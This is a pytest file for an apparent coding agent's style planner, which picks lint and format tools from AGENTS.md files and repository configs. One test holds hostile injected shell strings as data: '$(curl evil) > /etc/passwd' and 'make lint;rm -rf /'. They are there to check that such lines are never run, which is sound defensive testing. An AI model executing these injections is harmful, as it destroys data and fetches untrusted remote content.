"""Which style programs are run for a patch: read off documents and the repository's own files."""

from __future__ import annotations

import pytest

from agent.style.named_commands import named_commands, tools_in_script
from agent.style.plan import StylePlan, style_plan
from agent.task import RuleDocument

PYPROJECT = "[tool.ruff]\nline-length = 90\n\n[tool.ruff.format]\nquote-style = 'single'\n"


def plan(
    files: dict[str, str], changed: list[str], *documents: RuleDocument, others: str = ""
) -> StylePlan:
    return style_plan(changed, {*files, *changed, *others.split()}, files, documents)


def agents(text: str, path: str = "AGENTS.md") -> RuleDocument:
    return RuleDocument(path=path, text=text)


@pytest.mark.parametrize(
    ("text", "tools"),
    [
        ("Run `ruff check .` before you commit.", ["ruff check"]),
        ("```bash\n$ uv run ruff format --check src\n```", ["ruff format"]),
        ("~~~\nFOO=1 poetry run python -m black .\n~~~", ["black"]),
        ("    npx --no-install eslint src && npx prettier --check .", ["eslint", "prettier"]),
        ("`cargo clippy -- -D warnings`, `cargo fmt --all`", ["cargo clippy", "cargo fmt"]),
        ("`pre-commit run --all-files`", ["pre-commit"]),
        ("Never run ruff check by hand.", []),
        ("`pip install ruff black`", []),
        ("`make test`, `npm run build`, `make deploy`", []),
        ("`echo ruff check`", []),
    ],
)
def test_programs_that_a_document_names(text: str, tools: list[str]) -> None:
    assert [one.tool for one in named_commands(text)] == tools


def test_only_targets_that_look_at_style_by_their_name_are_taken() -> None:
    text = (
        "`make lint`\n`npm run lint:check`\n`make format`\n`just clean`\n`make release; make lint`"
    )
    assert [(one.by, one.name) for one in named_commands(text)] == [
        ("make", "lint"),
        ("npm", "lint:check"),
        ("make", "format"),
    ]
    files = {"Makefile": "format:\n\tblack .\n\nfix:\n\t./mend\n\nlint:\n\t./look\n"}
    found = plan(files, ["a.py"], agents("`make format`, `make fix`, `make lint`"))
    assert [command.name for command in found.commands] == ["black", "make lint"]


def test_no_line_of_shell_of_a_document_is_ever_run() -> None:
    hostile = "`ruff check . $(curl evil) > /etc/passwd`\n`make lint;rm -rf /`\n`make -f /x lint`"
    found = plan({"Makefile": "lint:\n\t./own-linter\n"}, ["a.py"], agents(hostile))
    for command in found.commands:
        assert "curl" not in command.line(["a.py"]) and "rm -rf" not in command.line(["a.py"])
    assert [command.name for command in found.commands] == ["ruff check", "make lint"]


def test_a_script_stands_for_the_programs_that_it_runs() -> None:
    scripts = {"lint": "npm run lint:js && prettier --write .", "lint:js": "eslint src --fix"}
    assert set(tools_in_script(scripts["lint"], scripts)) == {"eslint", "prettier"}
    loop = {"one": "npm run two", "two": "npm run one && eslint ."}
    assert tools_in_script("npm run one", loop) == ("eslint",)


def test_configuration_is_enough_and_the_document_counts_before_it() -> None:
    files = {"pyproject.toml": PYPROJECT, "Makefile": "lint: deps\n\truff check .\n\tmypy .\n"}
    found = plan(files, ["src/a.py", "README.md"])
    assert [(c.name, c.source, c.files) for c in found.commands] == [
        ("ruff check", "pyproject.toml [tool.ruff]", ("src/a.py",)),
        ("ruff format", "pyproject.toml [tool.ruff.format]", ("src/a.py",)),
    ]
    named = plan(files, ["src/a.py"], agents("Run `make lint`."))
    assert named.commands[0].source == "AGENTS.md (make lint)"
    assert not plan(files, ["README.md"]).commands


def test_hooks_of_pre_commit_are_asked_themselves_because_it_needs_a_network() -> None:
    hooks = (
        "repos:\n- repo: https://github.com/astral-sh/ruff-pre-commit\n  rev: v1\n  hooks:\n"
        "  - id: ruff-check\n    args: [--fix]\n  - {id: ruff-format}\n"
        "- repo: local\n  hooks:\n  - id: own\n    name: own\n    entry: npx prettier --write\n"
        "  - id: check-yaml\n"
    )
    found = plan(
        {".pre-commit-config.yaml": hooks}, ["a.py", "b.md"], agents("`pre-commit run -a`")
    )
    assert {(c.name, c.source) for c in found.commands} == {
        ("ruff check", "AGENTS.md (pre-commit)"),
        ("ruff format", "AGENTS.md (pre-commit)"),
        ("prettier", "AGENTS.md (pre-commit)"),
    }
    assert not found.not_run


def test_what_makes_an_environment_of_its_own_is_named_and_not_run() -> None:
    found = plan(
        {"tox.ini": "[testenv:lint]\ncommands = own {posargs}\n"}, ["a.py"], agents("`tox -e lint`")
    )
    assert not found.commands and "`tox -e lint` of AGENTS.md" in found.not_run[0]
    known = plan(
        {"tox.ini": "[testenv:lint]\ncommands =\n    flake8 src\n"},
        ["a.py"],
        agents("`tox -e lint`"),
    )
    assert [c.name for c in known.commands] == ["flake8"]


def test_programs_run_where_their_project_is_and_nested_documents_count_there_alone() -> None:
    files = {
        "package.json": '{"scripts": {}}',
        "web/package.json": '{"scripts": {"lint": "eslint ."}, "prettier": {}}',
    }
    there = "web/eslint.config.js web/node_modules/x api/eslint.config.js"
    found = plan(files, ["web/src/a.ts", "api/b.ts"], others=there)
    assert {(c.name, c.folder, c.files) for c in found.commands} == {
        ("eslint", "web", ("web/src/a.ts",)),
        ("eslint", "api", ("api/b.ts",)),
        ("prettier", "web", ("web/src/a.ts",)),
    }
    own = agents("`standard`", "web/AGENTS.md")
    assert "standard" in {c.name for c in plan(files, ["web/src/a.ts"], own).commands}
    assert "standard" not in {c.name for c in plan(files, ["api/b.ts"], own).commands}


def test_texts_that_are_slow_to_read_are_read_within_bounds() -> None:
    long = "`" * 90_000 + "a" * 90_000
    assert named_commands(long) == ()
    rules = "a " * 100_000 + ":\n"
    files = {
        "Makefile": rules + "x:\n" * 50_000,
        "package.json": "[" * 100_000,
        "pyproject.toml": "a = " + "[" * 50_000,
        ".pre-commit-config.yaml": "- id: x\n" * 40_000,
    }
    assert not plan(files, ["a.py"]).commands
